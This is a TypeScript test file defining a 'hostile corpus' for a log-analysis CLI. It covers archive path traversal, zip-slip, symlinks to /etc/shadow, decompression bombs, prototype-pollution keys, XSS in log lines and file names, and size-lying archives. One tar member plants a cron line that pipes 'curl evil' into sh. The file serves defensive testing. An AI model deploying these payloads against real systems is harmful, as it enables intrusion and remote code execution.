// The hostile corpus: every case names what it attacks, builds its input (small ones are committed under
// corpus/, big or unstorable ones — archives with lies, bombs, FIFOs, links, 20 MB lines — are made here in the
// scratch folder), and says where the hostile part must be reported and which valid input must still be read.

import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { decompress as zstdDecompress } from 'fzstd';
import { expect } from 'vitest';
import type { Report } from '../../src/report.js';
import { deflateZeros, GiB, KiB, MiB, paxPath, tar, tarHeader, zeroBomb, zip, type TarEntry } from './_build.js';
import { ROOT } from './_run.js';

/** The control line every case carries next to its hostile part: read, it gives one record and one event. */
export const VALID = 'Sep 14 11:39:42 hostile-node systemd[1]: Stopping Docker Application Container Engine...\n';
export const CORPUS = path.join(ROOT, 'test/hostile/corpus');
/**
 * GiB the xz and zstd tar bombs expand to. liblzma (lzma-native) drains zeros at ~180 MB/s and fzstd at ~250 MB/s,
 * so `npm test` keeps them at 1 GiB; `npm run test:hostile-full` sets 5 (gzip's, the cheapest, is 5 GiB always).
 */
const BOMB_GIB = Number(process.env.HOSTILE_BOMB_GIB ?? 1);
const ID = 'fb7cdb0a4f8da673da0a9818ec9a1576f953a8e8decf87a081827c11e4aa7138';

export type Input = Report['inputs'][number];

export interface Built {
  /** Paths given to `podmortem analyze`. */
  inputs: string[];
  /** Extra CLI options (caps). */
  args?: string[];
  /**
   * Member names that climb or are absolute: none may exist after the run where an extractor would have put
   * them — resolved against the CLI's working folder, against the archive's folder, and as they are.
   */
  escapes?: string[];
}

export interface Case {
  id: string;
  /** What the case attacks, in one line. */
  attack: string;
  /** Make the input under `dir` (a fresh scratch folder); `tag` is unique to the run, for traversal targets. */
  build(dir: string, tag: string): Built | Promise<Built>;
  /** Display-path suffixes of inputs that hold VALID or other good content: each must give events. */
  valid: string[];
  /** The hostile part, reported: inputs[].why or inputs[].notes say what happened. */
  reported(r: Report): void;
  /** Exit code; 0 unless nothing at all could be read (2). */
  exit?: 0 | 2;
  budgetS?: number;
  /** Bound on the CLI's peak RSS in MB. */
  rssMB?: number;
  /** Also render Markdown and HTML and check that log text stays text. */
  xss?: boolean;
  /** Seconds of CPU rather than a fraction of one: run by hostile-heavy.test.ts. */
  heavy?: boolean;
}

/** The input whose display path ends with `suffix` (exactly one). */
export function inputOf(r: Report, suffix: string): Input {
  const exact = r.inputs.filter((i) => i.path === suffix);
  const found = exact.length > 0 ? exact : r.inputs.filter((i) => i.path.endsWith('/' + suffix));
  if (found.length !== 1) throw new Error(`${found.length} inputs end with ${JSON.stringify(suffix)}: ${r.inputs.map((i) => i.path).join(', ').slice(0, 2000)}`);
  return found[0]!;
}

/** What was said about an input: its reason and its notes. */
const said = (r: Report, suffix: string): string => {
  const i = inputOf(r, suffix);
  return [i.why, ...i.notes].join(' | ');
};

function write(file: string, data: string | Buffer): string {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, data);
  return file;
}

const corpus = (id: string): Built => ({ inputs: [path.join(CORPUS, id)] });
const journalLines = (n: number, tag = 'line'): string => Array.from({ length: n }, (_, i) => `Sep 14 11:${pad(Math.floor(i / 60) % 60)}:${pad(i % 60)} hostile-node kubelet[1789]: ${tag} ${i}\n`).join('');
function pad(n: number): string {
  return String(n).padStart(2, '0');
}
const compress = (tool: 'xz' | 'zstd', data: Buffer): Buffer => execFileSync(tool, tool === 'xz' ? ['-1', '-c', '-T1'] : ['-3', '-c', '-q'], { input: data, maxBuffer: 512 * MiB });
const cut = (b: Buffer, fraction: number): Buffer => b.subarray(0, Math.floor(b.length * fraction));

/** A tar of `valid-journal` and a bomb member of `size` zero bytes, compressed by `kind`, never held whole. */
function tarBomb(kind: 'gzip' | 'xz' | 'zstd', size: number): Buffer {
  const bomb = zeroBomb(kind, size);
  const first = tar([{ name: 'node/valid-journal', body: VALID }], false);
  const after = tar([{ name: 'node/after-the-bomb', body: VALID }]);
  return Buffer.concat([bomb.head(Buffer.concat([first, tarHeader({ name: 'node/var/log/zeros.log', size })])), ...bomb.body, bomb.head(after)]);
}

export const CASES: Case[] = [
  // ---- text --------------------------------------------------------------------------------------------
  {
    id: 'random-bytes',
    attack: 'binary garbage where a log should be (4 KiB of random bytes)',
    build: () => corpus('random-bytes'),
    valid: ['valid-journal'],
    reported: (r) => expect(inputOf(r, 'random.bin')).toMatchObject({ format: null, why: 'binary content (NUL bytes)' }),
  },
  {
    id: 'garbage-in-journal',
    attack: 'a journal with lines of control bytes, invalid and overlong UTF-8, UTF-8-encoded surrogates between its entries',
    build: () => corpus('garbage-in-journal'),
    valid: ['journalctl_--no-pager'],
    reported: (r) => expect(inputOf(r, 'journalctl_--no-pager')).toMatchObject({ format: 'journal-short', records: 13, unparsed: 6 }),
  },
  {
    id: 'nul-runs',
    attack: 'a syslog-style journal with a 4 KiB NUL hole (crash) and the next line glued behind it',
    build: () => corpus('nul-runs'),
    valid: ['messages'],
    reported: (r) => {
      const i = inputOf(r, 'messages');
      expect(i.why).toMatch(/NUL bytes in the head/);
      expect(i).toMatchObject({ format: 'journal-short', lines: 11, records: 10, unparsed: 0 });
    },
  },
  {
    id: 'invalid-utf8',
    attack: 'invalid UTF-8 in the host, identifier and message of journal lines and in a logrus body',
    build: () => corpus('invalid-utf8'),
    valid: ['journalctl_--no-pager'],
    reported: (r) => expect(inputOf(r, 'journalctl_--no-pager')).toMatchObject({ format: 'journal-short', lines: 4, records: 4 }),
  },
  {
    id: 'gbk',
    attack: 'a Chinese-locale journal and deploy log written in GBK, not UTF-8 (the month "9月" unreadable)',
    build: () => corpus('gbk'),
    valid: ['journalctl_--no-pager'],
    reported: (r) => {
      expect(inputOf(r, 'journalctl_--no-pager')).toMatchObject({ format: 'journal-short', lines: 3, records: 2, unparsed: 1 });
      expect(inputOf(r, 'deploy.log')).toMatchObject({ format: 'deploy-log', records: 2 });
    },
  },
  {
    id: 'crlf',
    attack: 'CRLF line ends in a journal, a deploy log and an iptables-save dump, and CRs inside a message',
    build: () => corpus('crlf'),
    valid: ['journalctl_--no-pager', 'deploy.log', 'iptables-save'],
    reported: (r) => {
      expect(inputOf(r, 'journalctl_--no-pager')).toMatchObject({ lines: 2, records: 2, unparsed: 0 });
      expect(inputOf(r, 'iptables-save')).toMatchObject({ format: 'iptables-save', unparsed: 0 });
    },
  },
  {
    id: 'long-line',
    attack: 'a single 20 MB line in the middle of a journal, another at its end without newline, 20 MB JSON and export lines',
    build: (dir) => {
      const big = 'A'.repeat(20 * MiB);
      write(path.join(dir, 'journalctl_--no-pager'), `${VALID}Sep 14 11:39:43 hostile-node a[1]: ${big}\n${VALID}${big}`);
      write(path.join(dir, 'journalctl_-o_json'), `{"__REALTIME_TIMESTAMP":"1726285182012004","MESSAGE":"${big}"}\n{"__REALTIME_TIMESTAMP":"1726285182012004","SYSLOG_IDENTIFIER":"systemd","MESSAGE":"Stopping Docker Application Container Engine..."}\n`);
      write(path.join(dir, 'journalctl_-o_export'), `__REALTIME_TIMESTAMP=1726285182012004\nMESSAGE=${big}\n\n__REALTIME_TIMESTAMP=1726285182012004\nSYSLOG_IDENTIFIER=systemd\nMESSAGE=Stopping Docker Application Container Engine...\n\n`);
      return { inputs: [dir] };
    },
    valid: ['journalctl_--no-pager', 'journalctl_-o_json', 'journalctl_-o_export'],
    reported: (r) => {
      const j = inputOf(r, 'journalctl_--no-pager');
      expect(j).toMatchObject({ lines: 4, records: 2, unparsed: 2 });
      expect(j.notes).toContain('lines longer than 1048576 bytes (--max-line-length) are counted unparsed, not read (first at line 2)');
      expect(inputOf(r, 'journalctl_-o_json')).toMatchObject({ lines: 2, records: 1, unparsed: 1 });
      expect(inputOf(r, 'journalctl_-o_export')).toMatchObject({ records: 1 });
    },
  },
  {
    id: 'line-cap',
    attack: 'the line cap as an option: --max-line-length 100 on a journal whose every other line is 150 characters',
    build: (dir) => {
      const long = `Sep 14 11:39:43 hostile-node a[1]: ${'x'.repeat(115)}\n`;
      return { inputs: [write(path.join(dir, 'journalctl_--no-pager'), (VALID + long).repeat(50))], args: ['--max-line-length', '100'] };
    },
    valid: ['journalctl_--no-pager'],
    reported: (r) => {
      const i = inputOf(r, 'journalctl_--no-pager');
      expect(i).toMatchObject({ lines: 100, records: 50, events: 50, unparsed: 50 });
      expect(i.notes).toEqual(['lines longer than 100 bytes (--max-line-length) are counted unparsed, not read (first at line 2)']);
    },
  },
  {
    id: 'time-backwards',
    attack: 'time going backwards: year rollovers back and forth, the same second, offsets that change, the epoch, 2099',
    build: () => corpus('time-backwards'),
    valid: ['journalctl_--no-pager', 'deploy.log'],
    reported: (r) => {
      expect(inputOf(r, 'journalctl_--no-pager')).toMatchObject({ lines: 10, records: 10 });
      expect(inputOf(r, 'journalctl_--no-pager_-o_short-iso')).toMatchObject({ lines: 6, records: 6 });
    },
  },
  {
    id: 'duplicate-lines',
    attack: 'the same journal line 10,000 times and the same deploy line 10,000 times',
    build: (dir) => {
      write(path.join(dir, 'journalctl_--no-pager'), VALID.repeat(10_000));
      write(path.join(dir, 'var/log/deploy/deploy.log'), '2024-09-14 11:39:41,880 - deploy INFO - 停止docker\n'.repeat(10_000));
      return { inputs: [dir] };
    },
    valid: ['journalctl_--no-pager', 'deploy.log'],
    reported: (r) => {
      expect(inputOf(r, 'journalctl_--no-pager')).toMatchObject({ lines: 10_000, records: 10_000, events: 10_000 });
      expect(inputOf(r, 'deploy.log')).toMatchObject({ lines: 10_000, records: 10_000 });
    },
  },
  // ---- JSON --------------------------------------------------------------------------------------------
  {
    id: 'json-wrong-types',
    attack: 'JSON journal entries whose fields have the wrong types (objects, arrays, booleans, floats, out-of-range numbers)',
    build: () => corpus('json-wrong-types'),
    valid: ['journalctl_--no-pager_-o_json', 'valid-journal'],
    reported: (r) => {
      const i = inputOf(r, 'journalctl_--no-pager_-o_json');
      expect(i).toMatchObject({ format: 'journal-json', lines: 15 });
      expect(i.records + i.unparsed).toBe(15);
      expect(i.unparsedReasons).toEqual({ '__REALTIME_TIMESTAMP is not a number of microseconds': 6, 'not a JSON object': 4 });
    },
  },
  {
    id: 'json-truncated',
    attack: 'JSON journals cut mid-object, unbalanced braces, a bare record separator, a json-pretty object without its }',
    build: () => corpus('json-truncated'),
    valid: ['journalctl_--no-pager_-o_json', 'valid-journal'],
    reported: (r) => {
      expect(inputOf(r, 'journalctl_--no-pager_-o_json').unparsedReasons).toMatchObject({ 'truncated JSON object (no closing })': expect.any(Number) });
      expect(inputOf(r, 'journalctl_--no-pager_-o_json-pretty')).toMatchObject({ records: 0, unparsed: 3 });
    },
  },
  {
    id: 'json-deep',
    attack: '100-deep nesting in a journal entry, a docker inspect array, a libcni cache file and a kubectl List',
    build: () => corpus('json-deep'),
    valid: ['journalctl_--no-pager_-o_json', 'docker_inspect_deep', 'kubectl_get_pods_-A_-o_json', 'valid-journal'],
    reported: (r) => expect(inputOf(r, `cbr0-${ID}-eth0`)).toMatchObject({ format: 'cni-cache', events: 1, unparsed: 0 }),
  },
  {
    id: 'json-proto',
    attack: '__proto__ and constructor keys in journal JSON, libcni cache, kubectl List, checkpoint, and as logrus fields',
    build: () => corpus('json-proto'),
    valid: ['journalctl_--no-pager_-o_json', 'kubectl_get_pods_-A_-o_json', `cbr0-${ID}-eth0`, ID, 'valid-journal'],
    reported: (r) => {
      // __proto__ is an ordinary key: the dockerd task delete in the JSON entry still gives its event, and the
      // cache file's ports and IPs under "__proto__" are not taken as its own.
      expect(inputOf(r, 'journalctl_--no-pager_-o_json').events).toBe(2);
      // The Pod's own metadata names it, not the object under "__proto__"; nothing reads "polluted" as a value.
      expect(r.containers.flatMap((c) => c.pods)).toEqual(['default/p']);
      expect(JSON.stringify(r)).not.toMatch(/"polluted"|"evil"|default\/evil/);
    },
  },
  {
    id: 'export-huge-length',
    attack: 'journal export entries whose binary MESSAGE length says 2^63, 2^64-1 and 2^40 bytes',
    build: () => corpus('export-huge-length'),
    valid: ['journalctl_--no-pager_-o_export', 'valid-journal'],
    reported: (r) => {
      const i = inputOf(r, 'journalctl_--no-pager_-o_export');
      expect(i).toMatchObject({ format: 'journal-export', records: 4 });
      expect(Object.keys(i.unparsedReasons).join(' ')).toMatch(/binary field MESSAGE of 9223372036854775808 bytes: over the 64 MiB limit, refused/);
      expect(i.records + i.unparsed).toBeLessThanOrEqual(i.lines);
    },
  },
  {
    id: 'journal-file-hostile',
    attack: 'binary journal files: a crashed copy cut mid-arena (.journal~), an entry array linking to itself, an object of 2^63 bytes and an offset past the end, unknown incompatible flags, a header size of 2^63, and the cut copy inside a tar',
    build: (dir) => {
      const real = Buffer.from(zstdDecompress(readFileSync(path.join(ROOT, 'samples/formats/journal-file/zstd-compact-keyed-hash/input.journal.zst'))));
      const folder = path.join(dir, 'node/var/log/journal/3c1f0e6a8b2d4f7e9a5c1b3d5e7f9a2b');
      const firstArray = Number(real.readBigUInt64LE(176));
      const variant = (name: string, change: (b: Buffer) => void): void => {
        const b = Buffer.from(real);
        change(b);
        write(path.join(folder, name), b);
      };
      const cut = real.subarray(0, 3_740_000);
      write(path.join(folder, 'system@0005f1a2b3c4d5e6-0123456789abcdef.journal~'), cut);
      variant('loop.journal', (b) => b.writeBigUInt64LE(BigInt(firstArray), firstArray + 16));
      variant('huge.journal', (b) => {
        b.writeBigUInt64LE(2n ** 63n, b.readUInt32LE(firstArray + 24) + 8);
        b.writeUInt32LE(0xfffffff8, firstArray + 28);
      });
      variant('future.journal', (b) => b.writeUInt32LE(b.readUInt32LE(12) | 0x100, 12));
      variant('header-2p63.journal', (b) => b.writeBigUInt64LE(2n ** 63n, 88));
      write(path.join(dir, 'cut.tar'), tar([{ name: 'node2/var/log/journal/m/system.journal~', body: cut }]));
      write(path.join(dir, 'node/valid-journal'), VALID);
      return { inputs: [dir] };
    },
    valid: ['node/valid-journal', 'system@0005f1a2b3c4d5e6-0123456789abcdef.journal~', 'loop.journal', 'huge.journal', 'cut.tar/node2/var/log/journal/m/system.journal~'],
    reported: (r) => {
      for (const cutCopy of ['system@0005f1a2b3c4d5e6-0123456789abcdef.journal~', 'cut.tar/node2/var/log/journal/m/system.journal~']) {
        const i = inputOf(r, cutCopy);
        expect(i).toMatchObject({ format: 'journal-file', lines: 21 });
        expect(i.records + i.unparsed).toBe(21);
        expect(i.notes.join(' ')).toMatch(/ends \d+ bytes before its arena does \(truncated copy.*entries the header counts could not be read/);
      }
      expect(said(r, 'loop.journal')).toMatch(/a loop, not followed/);
      expect(Object.keys(inputOf(r, 'huge.journal').unparsedReasons).join(' ')).toMatch(/declares over 2\^53 bytes: over the 64 MiB limit, refused.*past the end of the file/);
      expect(inputOf(r, 'future.journal')).toMatchObject({ format: 'journal-file', records: 0, unparsed: 1 });
      expect(said(r, 'future.journal')).toMatch(/unknown ones \(0x100\).*refused/);
      expect(said(r, 'header-2p63.journal')).toMatch(/header size over 2\^53 is not a journal header size/);
    },
  },
  // ---- folders -----------------------------------------------------------------------------------------
  {
    id: 'ipam-hostile',
    attack: 'an IPAM folder with a 50 MB file, a link to /etc/shadow, a link loop, a FIFO; the FIFO and a link given as inputs',
    build: (dir) => {
      const net = path.join(dir, 'node/var/lib/cni/networks/cbr0');
      write(path.join(net, '10.0.0.2'), `${ID}\r\neth0`);
      write(path.join(net, '10.0.0.3'), Buffer.concat([Buffer.from(`${ID}\r\neth0\n`), Buffer.alloc(50 * MiB, 0x41)]));
      symlinkSync('/etc/shadow', path.join(net, '10.0.0.4'));
      symlinkSync('loop-b', path.join(net, 'loop-a'));
      symlinkSync('loop-a', path.join(net, 'loop-b'));
      execFileSync('mkfifo', [path.join(net, '10.0.0.5')]);
      write(path.join(net, 'last_reserved_ip.0'), '10.0.0.3');
      write(path.join(net, 'lock'), '');
      write(path.join(dir, 'node/valid-journal'), VALID);
      return { inputs: [path.join(dir, 'node'), path.join(net, '10.0.0.5'), path.join(net, '10.0.0.4')] };
    },
    valid: ['node/var/lib/cni/networks/cbr0/10.0.0.2', 'valid-journal'],
    reported: (r) => {
      expect(said(r, 'node/var/lib/cni/networks/cbr0/10.0.0.4')).toBe('symbolic link to /etc/shadow: not followed');
      expect(said(r, 'node/var/lib/cni/networks/cbr0/loop-a')).toBe('symbolic link to loop-b: not followed');
      expect(said(r, 'node/var/lib/cni/networks/cbr0/10.0.0.5')).toBe('device, FIFO or socket: not read');
      // The 50 MB lease: its ID and interface read, the 50 MB third line counted unparsed, never held.
      const big = inputOf(r, 'node/var/lib/cni/networks/cbr0/10.0.0.3');
      expect(big).toMatchObject({ format: 'cni-ipam', lines: 3, unparsed: 1 });
      expect(big.notes.join(' ')).toMatch(/lines longer than 1048576 bytes/);
      // Given on the command line: the FIFO is not opened (it would block), the link not followed.
      expect(r.inputs.find((i) => i.path === '10.0.0.5')!.why).toBe('not a regular file or folder');
      expect(r.inputs.find((i) => i.path === '10.0.0.4')!.why).toBe('symbolic link: not followed');
    },
  },
  {
    id: 'xss',
    attack: 'iptables comments, deploy and journal lines and file names carrying <script>, <img onerror>, javascript: links, backticks and table pipes',
    build: (dir) => {
      const b = path.join(dir, 'sosreport-centos79');
      cpSync(path.join(ROOT, 'samples/hostport-stale-dnat'), b, { recursive: true });
      const nvl = path.join(b, 'sos_commands/firewall_tables/iptables_-t_nat_-nvL');
      writeFileSync(nvl, readFileSync(nvl, 'utf8').replace(`id: "${ID}" */`, `id: "${ID}" ${XSS_INLINE} */`));
      const deploy = path.join(b, 'var/log/deploy/deploy.log');
      writeFileSync(deploy, readFileSync(deploy, 'utf8').replace('停止docker', `停止docker ${XSS_INLINE}`) + `2024-09-14 11:45:36,000 - deploy INFO - ${XSS_INLINE}\n`);
      const journal = path.join(b, 'sos_commands/logs/journalctl_--no-pager');
      writeFileSync(journal, readFileSync(journal, 'utf8') + `Sep 14 11:45:37 centos79 uninstall-docker[27310]: ${XSS_INLINE}\n`);
      write(path.join(b, 'var/log/<img src=x onerror=alert(9)>|`x`.log'), VALID);
      return { inputs: [b] };
    },
    valid: ['journalctl_--no-pager', 'deploy.log', 'iptables_-t_nat_-nvL'],
    reported: (r) => {
      expect(r.findings.length).toBeGreaterThan(0);
      expect(JSON.stringify(r.findings)).toContain('<script>alert(1)</script>');
    },
    xss: true,
  },
  {
    id: 'nothing-readable',
    attack: 'inputs of which nothing at all can be read: random bytes, a FIFO, a link, an empty file',
    build: (dir) => {
      write(path.join(dir, 'junk/random.bin'), readFileSync(path.join(CORPUS, 'random-bytes/random.bin')));
      write(path.join(dir, 'junk/empty'), '');
      execFileSync('mkfifo', [path.join(dir, 'junk/fifo')]);
      symlinkSync('/etc/passwd', path.join(dir, 'junk/passwd'));
      return { inputs: [path.join(dir, 'junk')] };
    },
    valid: [],
    reported: (r) => expect(r.inputs.every((i) => i.format === null)).toBe(true),
    exit: 2,
  },
  // ---- archives ----------------------------------------------------------------------------------------
  {
    id: 'tar-traversal',
    attack: 'tar members named ../, ../../…/tmp, node/../../, absolute, with backslashes, a pax name that climbs, newlines in names',
    build: (dir, tag) => {
      const escapes = [`../escape-${tag}`, `../../../../../../../../../tmp/${tag}/pwned`, `node/../../up-${tag}`, `/tmp/${tag}-abs/pwned`, `node/${'a'.repeat(200)}/../../../../tmp/${tag}-pax`];
      const file = write(
        path.join(dir, 'traversal.tar'),
        tar([
          ...escapes.slice(0, 4).map((name) => ({ name, body: VALID })),
          { name: `C:\\Windows\\${tag}`, body: VALID },
          paxPath(escapes[4]!),
          { name: 'placeholder-for-pax', body: VALID },
          { name: 'node/evil\nname\u001b[31m', body: VALID },
          { name: './././node/valid-journal', body: VALID },
        ]),
      );
      return { inputs: [file], escapes };
    },
    valid: ['traversal.tar/node/valid-journal'],
    reported: (r) => {
      const refused = r.inputs.filter((i) => i.path !== 'traversal.tar' && /refused/.test(i.why));
      expect(refused.length).toBe(6);
      expect(said(r, 'traversal.tar')).toBe('tar archive: 8 members, 6 refused');
      for (const i of refused) expect(i.format).toBeNull();
    },
  },
  {
    id: 'zip-slip',
    attack: 'zip members named ../, absolute, with backslashes, a symlink to /etc/shadow (zip-slip)',
    build: (dir, tag) => {
      const escapes = [`../../escape-${tag}`, `/tmp/${tag}-abs`];
      const file = write(
        path.join(dir, 'slip.zip'),
        zip([
          { name: escapes[0]!, body: VALID },
          { name: escapes[1]!, body: VALID },
          { name: `..\\..\\${tag}-win`, body: VALID },
          { name: 'node/shadow', body: '/etc/shadow', mode: 0o120777 },
          { name: 'node/valid-journal', body: VALID, deflate: true },
        ]),
      );
      return { inputs: [file], escapes: [...escapes, `../../${tag}-win`] };
    },
    valid: ['slip.zip/node/valid-journal'],
    reported: (r) => {
      expect(said(r, 'slip.zip')).toBe('zip archive: 5 members, 4 refused');
      expect(said(r, 'slip.zip/node/shadow')).toBe('symbolic link to /etc/shadow: not followed');
    },
  },
  {
    id: 'tar-links',
    attack: 'tar symlinks and hard links out of the bundle, a symlinked folder then a file "through" it',
    build: (dir) => {
      const file = write(
        path.join(dir, 'links.tar'),
        tar([
          { name: 'node/shadow', type: '2', linkname: '/etc/shadow' },
          { name: 'node/up', type: '2', linkname: '../../..' },
          { name: 'node/passwd', type: '1', linkname: '/etc/passwd' },
          { name: 'node/etc', type: '2', linkname: '/etc' },
          { name: 'node/etc/cron.d/evil', body: '* * * * * root curl evil | sh\n' },
          { name: 'node/valid-journal', body: VALID },
          { name: 'node/copy', type: '1', linkname: 'node/valid-journal' },
        ]),
      );
      return { inputs: [file] };
    },
    valid: ['links.tar/node/valid-journal'],
    reported: (r) => {
      expect(said(r, 'links.tar/node/shadow')).toBe('symbolic link to /etc/shadow: not followed');
      expect(said(r, 'links.tar/node/passwd')).toBe('hard link to /etc/passwd: not followed');
      expect(said(r, 'links.tar/node/etc')).toBe('symbolic link to /etc: not followed');
      expect(said(r, 'links.tar')).toBe('tar archive: 7 members, 5 refused');
    },
  },
  {
    id: 'tar-special',
    attack: 'tar character and block devices, a FIFO, an unknown type, a pax global header',
    build: (dir) => {
      const file = write(
        path.join(dir, 'special.tar'),
        tar([
          { name: 'pax_global_header', type: 'g', body: '20 comment=global\n' },
          { name: 'node/dev/null', type: '3' },
          { name: 'node/dev/sda', type: '4' },
          { name: 'node/fifo', type: '6' },
          { name: 'node/weird', type: 'Z', body: VALID },
          { name: 'node/valid-journal', body: VALID },
        ]),
      );
      return { inputs: [file] };
    },
    valid: ['special.tar/node/valid-journal'],
    reported: (r) => {
      expect(said(r, 'special.tar/node/dev/null')).toBe('device file (character-device): not read');
      expect(said(r, 'special.tar/node/dev/sda')).toBe('device file (block-device): not read');
      expect(said(r, 'special.tar/node/fifo')).toBe('FIFO: not read');
      expect(said(r, 'special.tar/node/weird')).toMatch(/^archive member of type .*: not read$/);
    },
  },
  {
    id: 'truncated',
    attack: 'tar cut mid-member and mid-header, .tar.gz/.tar.xz/.tar.zst cut, a zip without its central directory, a cut .gz',
    build: (dir) => {
      // 30,000 lines: a zstd frame of many blocks, so the cut leaves whole blocks (and the first member) before it.
      const t = tar([{ name: 'node/valid-journal', body: VALID }, { name: 'node/journal-2', body: journalLines(30_000) }]);
      write(path.join(dir, 'cut-mid-member.tar'), t.subarray(0, 512 * 3 + 40 * KiB));
      write(path.join(dir, 'cut-mid-header.tar'), t.subarray(0, 512 * 2 + 100));
      write(path.join(dir, 'cut.tar.gz'), cut(gzipSync(t), 0.6));
      write(path.join(dir, 'cut.tar.xz'), cut(compress('xz', t), 0.6));
      write(path.join(dir, 'cut.tar.zst'), cut(compress('zstd', t), 0.6));
      const z = zip([{ name: 'node/valid-journal', body: VALID }, { name: 'node/journal-2', body: journalLines(3000), deflate: true }]);
      write(path.join(dir, 'cut.zip'), z.subarray(0, z.length - 40));
      write(path.join(dir, 'cut-single.gz'), cut(gzipSync(VALID + journalLines(30000)), 0.5));
      return { inputs: [dir] };
    },
    valid: ['cut-mid-member.tar/node/valid-journal', 'cut-mid-header.tar/node/valid-journal', 'cut.tar.gz/node/valid-journal', 'cut.tar.xz/node/valid-journal', 'cut.tar.zst/node/valid-journal', 'cut-single.gz'],
    reported: (r) => {
      expect(said(r, 'cut-mid-member.tar')).toMatch(/tar archive truncated or corrupt: .*the 2 members before this point were read/);
      expect(said(r, 'cut-mid-header.tar')).toMatch(/tar archive truncated or corrupt/);
      expect(said(r, 'cut.tar.gz')).toMatch(/gzip data ends early \(truncated file\?\)/);
      expect(said(r, 'cut.tar.xz')).toMatch(/xz data ends early \(truncated file\?\)/);
      expect(said(r, 'cut.tar.zst')).toMatch(/zstd data/);
      expect(said(r, 'cut.zip')).toMatch(/zip archive unreadable/);
      expect(said(r, 'cut-single.gz')).toMatch(/gzip data ends early \(truncated file\?\)/);
    },
  },
  {
    id: 'size-lies',
    attack: 'tar members that claim 1 GiB, 2^62 bytes (base-256) or more than the stream holds, and a size field of garbage',
    build: (dir) => {
      write(path.join(dir, 'claims-1GiB.tar'), Buffer.concat([tar([{ name: 'node/valid-journal', body: VALID }], false), tarHeader({ name: 'node/big', size: GiB }), Buffer.from(VALID)]));
      write(path.join(dir, 'claims-2e62.tar'), Buffer.concat([tarHeader({ name: 'node/huge', size: 2 ** 62 }), Buffer.from(VALID)]));
      const swallow = tar([{ name: 'node/first', body: VALID, size: 4 * KiB }, { name: 'node/swallowed', body: VALID }]);
      write(path.join(dir, 'claims-more.tar'), swallow);
      const bad = tarHeader({ name: 'node/garbage-size', body: VALID });
      bad.write('zz-not-octal', 124, 'latin1');
      write(path.join(dir, 'garbage-size.tar'), Buffer.concat([bad, Buffer.from(VALID), Buffer.alloc(1024)]));
      write(path.join(dir, 'valid-journal'), VALID);
      return { inputs: [dir] };
    },
    valid: ['claims-1GiB.tar/node/valid-journal', 'bundle/valid-journal'],
    reported: (r) => {
      expect(said(r, 'claims-1GiB.tar')).toMatch(/tar archive truncated or corrupt: .*the 2 members before this point were read/);
      expect(said(r, 'claims-2e62.tar')).toMatch(/tar archive (truncated or corrupt|unreadable)/);
      expect(said(r, 'garbage-size.tar')).toMatch(/tar archive/);
    },
  },
  {
    id: 'many-members',
    heavy: true,
    attack: '100,001 empty members in one .tar.gz, then a journal',
    build: (dir) => {
      const n = 100_001;
      const parts: Buffer[] = [];
      for (let i = 0; i < n; i++) parts.push(tarHeader({ name: `m/${String(i).padStart(6, '0')}` }));
      parts.push(tar([{ name: 'm/valid-journal', body: VALID }]));
      return { inputs: [write(path.join(dir, 'many.tar.gz'), gzipSync(Buffer.concat(parts), { level: 1 }))] };
    },
    valid: ['many.tar.gz/m/valid-journal'],
    reported: (r) => {
      // The first UNREAD_LISTED (1,000) unread members listed, the other 99,001 counted on the archive.
      expect(said(r, 'many.tar.gz')).toMatch(/^tar archive: 100002 members \| decompressed from gzip \| 99001 more members nothing reads are counted here, not listed \(the first 1000 are\): 99001 empty file$/);
      expect(inputOf(r, 'many.tar.gz/m/000000').why).toBe('empty file');
    },
    budgetS: 90,
    // Unread members past the first 1,000 are counted, not listed: the report no longer grows with them (it
    // did: 100,002 entries, a 27 MB JSON, ~540 MB peak; now 111-114 MB).
    rssMB: 300,
  },
  {
    id: 'members-cap',
    heavy: true,
    attack: 'the same 100,001 members with --max-members 1000: the cap is a note, the run goes on',
    build: (dir) => {
      const parts: Buffer[] = [];
      for (let i = 0; i < 100_001; i++) parts.push(tarHeader({ name: `m/${String(i).padStart(6, '0')}` }));
      write(path.join(dir, 'many.tar.gz'), gzipSync(Buffer.concat(parts), { level: 1 }));
      write(path.join(dir, 'valid-journal'), VALID);
      return { inputs: [path.join(dir, 'many.tar.gz'), path.join(dir, 'valid-journal')], args: ['--max-members', '1000'] };
    },
    valid: ['valid-journal'],
    reported: (r) => expect(said(r, 'many.tar.gz')).toContain("stopped after 1000 members: the run's cap of 1000 archive members was reached (--max-members)"),
  },
  {
    id: 'nesting-64',
    attack: 'a tar nested 64 levels deep, gzip inside gzip 64 times, and a zip inside a tar',
    build: (dir) => {
      let inner = tar([{ name: 'deepest/valid-journal', body: VALID }]);
      for (let level = 63; level >= 1; level--) inner = tar([{ name: `level${level}/valid-journal`, body: VALID }, { name: `level${level}/inner.tar`, body: inner }]);
      write(path.join(dir, 'nest.tar'), inner);
      let g: Buffer = Buffer.from(VALID);
      for (let i = 0; i < 64; i++) g = gzipSync(g);
      write(path.join(dir, 'nest.gz'), g);
      write(path.join(dir, 'zip-in.tar'), tar([{ name: 'n/inner.zip', body: zip([{ name: 'valid-journal', body: VALID }]) }, { name: 'n/valid-journal', body: VALID }]));
      return { inputs: [dir] };
    },
    valid: ['nest.tar/level1/valid-journal', 'zip-in.tar/n/valid-journal'],
    reported: (r) => {
      expect(r.inputs.some((i) => /tar archive nested 6 levels deep: not read \(limit 6\)/.test(i.why))).toBe(true);
      expect(said(r, 'nest.gz')).toBe('gzip data nested 6 levels deep: not read (limit 6)');
      expect(said(r, 'zip-in.tar/n/inner.zip')).toMatch(/^zip archive inside a stream/);
    },
  },
  {
    id: 'zip-cd-lies',
    attack: 'zips whose central directory lies: entry count, offset, sizes, a name unlike the local one, entries overlapping',
    build: (dir) => {
      const ok = { name: 'node/valid-journal', body: VALID };
      write(path.join(dir, 'count-lies.zip'), zip([ok, { name: 'b', body: 'x' }], { count: 65535 }));
      write(path.join(dir, 'offset-lies.zip'), zip([ok], { offset: 7 }));
      write(path.join(dir, 'cd-size-lies.zip'), zip([ok], { size: 1 }));
      write(path.join(dir, 'entry-size-lies.zip'), zip([{ ...ok, cdSize: 10 }, { name: 'n/claims-4GiB', body: VALID, cdSize: 0xffffffff, cdCompressedSize: 0xfffffff0 }]));
      write(path.join(dir, 'name-lies.zip'), zip([{ name: '../../local-name-climbs', body: VALID, cdName: 'node/cd-name' }]));
